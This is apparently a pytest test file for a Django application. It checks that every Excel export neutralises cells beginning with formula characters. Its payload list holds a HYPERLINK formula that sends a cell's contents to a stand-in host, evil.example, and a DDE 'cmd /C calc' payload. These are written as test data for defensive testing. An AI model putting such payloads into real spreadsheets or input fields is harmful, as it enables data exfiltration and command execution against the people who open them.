"""Formula injection: any user text starting with = + - @ tab or carriage return is written as
inert text in every Excel export (roster, ledger, writings catalogue, assessment results,
similarity table), and the shared renderers do so for any string."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from similarity.conftest import submit  # noqa: F401  (fixture)

from guazhi.jobs.models import Job
from guazhi.lib.cells import unprefix
from guazhi.lib.xlsx import Column, Sheet, neutralise, write_xlsx
from guazhi.roster.models import Cadre, Secondment
from tests.assessment.test_assessment_documents import published  # noqa: F401  (fixture)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_inert(data: bytes, *, expect: str = HYPERLINK) -> None:
    """No formula cell, no string a spreadsheet would run; `expect` arrived, neutralised."""
    seen = []
    for cell in _cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
            seen.append(cell.value)
    assert any(expect in value for value in seen), "the payload did not reach the export"


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- the renderers ----------------------------------------------------------------------------


@given(st.text(max_size=30), st.sampled_from(FORMULA_STARTS))
def test_write_xlsx_neutralises_any_formula_start(text, start):
    # Control characters XML cannot hold are dropped (they made openpyxl fail the export).
    value = start + ILLEGAL_CHARACTERS_RE.sub("", text)
    data = write_xlsx([Sheet("表", [Column("内容", 20)], [[start + text], [text]])])
    cells = [c for c in _cells(data) if c.row > 1]
    assert all(c.data_type != "f" for c in cells)
    assert cells[0].value == "'" + value
    if start in "=+-@":  # what the importers undo (tab and CR are collapsed as spaces there)
        assert unprefix(cells[0].value) == value


@given(st.text(max_size=30))
def test_neutralise_leaves_other_text_alone(text):
    clean = ILLEGAL_CHARACTERS_RE.sub("", text)
    if not clean.startswith(FORMULA_STARTS):
        assert neutralise(text) == clean


# --- every export, through its view -----------------------------------------------------------


@pytest.fixture
def hostile_roster(cadre_a, cadre_b):
    Cadre.objects.filter(pk=cadre_a.pk).update(original_post=HYPERLINK, name=PAYLOADS[1])
    Secondment.objects.filter(cadre=cadre_a).update(post=PAYLOADS[2], duties=PAYLOADS[3])
    Secondment.objects.filter(cadre=cadre_b).update(post=PAYLOADS[4], duties=PAYLOADS[5])


def test_roster_export(client_for, programme_admin, hostile_roster):
    response = client_for(programme_admin).get(reverse("roster:roster_export"))
    assert response.status_code == 200
    assert_inert(_body(response))


def test_ledger_export(client_for, programme_admin, cadre_a, cadre_user, make_entry):
    secondment = cadre_a.secondments.get()
    for i, payload in enumerate(PAYLOADS):
        # A vertical tab is Word's manual line break, pasted with the text.
        make_entry(secondment, cadre_user, title=payload, text=PAYLOADS[-1 - i] + "\x0b第二行")
    response = client_for(programme_admin).get(reverse("ledger:entry_export"))
    assert response.status_code == 200
    assert_inert(_body(response))


def test_similarity_table_export(client_for, programme_admin, cadre_user, submit):  # noqa: F811
    for payload in PAYLOADS:
        submit(cadre_user, "组织首轮走访企业六百九十八家，逐户建立问题清单。" * 20, title=payload)
    response = client_for(programme_admin).get(reverse("similarity:cohort_export"))
    assert response.status_code == 200
    assert_inert(_body(response))


def test_writings_catalogue(
    client_for, programme_admin, cohort, cadre_a, cadre_user, make_writing, media_root
):
    for payload in PAYLOADS:
        make_writing(cadre_a.secondments.get(), cadre_user, title=payload)
    client = client_for(programme_admin)
    client.post(reverse("writings:batch_export"), {"kind": "reflection", "cohort": cohort.pk})
    job = Job.objects.get(kind="writings_export")
    download = client.get(reverse("jobs:job_download", args=[job.pk]))
    archive = zipfile.ZipFile(io.BytesIO(_body(download)))
    assert_inert(archive.read("目录.xlsx"))


def test_assessment_results(client_for, programme_admin, cadre_a, published):  # noqa: F811
    Cadre.objects.filter(pk=cadre_a.pk).update(name=HYPERLINK)
    Secondment.objects.filter(cadre=cadre_a).update(post=PAYLOADS[3])
    period = published["period"]
    response = client_for(programme_admin).get(
        reverse("assessment:period_workbook", args=[period.pk])
    )
    assert response.status_code == 200
    assert_inert(_body(response))
